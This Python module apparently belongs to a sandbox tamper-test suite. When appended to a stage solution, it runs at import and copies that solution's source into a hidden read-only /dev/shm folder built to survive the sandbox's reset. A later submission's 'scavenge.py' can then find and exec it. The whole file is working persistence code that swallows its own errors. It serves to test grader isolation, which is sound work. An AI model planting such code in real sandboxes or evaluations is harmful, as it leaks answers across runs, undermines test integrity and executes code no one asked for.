"""[attnkit-tamper] plant_devshm -- family (c), persistence channel /dev/shm.

Append to a correct stage module (attacker: the solution of stage k, here s02). At import it
writes this module's source (payload cut off, plus the stage modules it imports) into
/dev/shm/.atk-plant-<module>/blob, file 444, folder 555, so that the sandbox's "reset" (rmtree with
ignore_errors) leaves it in place. ``scavenge.py`` in a later submission's stub finds and execs it.

Old design (warm zygote keeps its private /dev/shm tmpfs): expected to leak.
"""


def _atk_plant_devshm(module, path):
    import os

    def blob():
        """This module's source and the stage modules it imports (payloads cut off), compressed."""
        import json
        import re
        import zlib

        cut = '"""' + "[attnkit-tamper]"
        folder = os.path.dirname(os.path.abspath(path))

        def source(name):
            with open(os.path.join(folder, name + ".py")) as handle:
                text = handle.read()
            return text.split(cut)[0] if cut in text else text

        sources, pending = {module: source(module)}, [module]
        while pending:
            for dep in re.findall(r"^\s*(?:from|import)\s+(s\d\d_\w+)", sources[pending.pop()], re.M):
                if dep not in sources:
                    sources[dep] = source(dep)
                    pending.append(dep)
        return zlib.compress(json.dumps({"main": module, "sources": sources}).encode(), 9)

    folder = f"/dev/shm/.atk-plant-{module}"
    if os.path.exists(folder):
        return
    os.makedirs(folder)
    with open(os.path.join(folder, "blob"), "wb") as handle:
        handle.write(blob())
    os.chmod(os.path.join(folder, "blob"), 0o444)
    os.chmod(folder, 0o555)


try:
    _atk_plant_devshm(__name__, __file__)
except Exception:  # noqa: BLE001
    pass
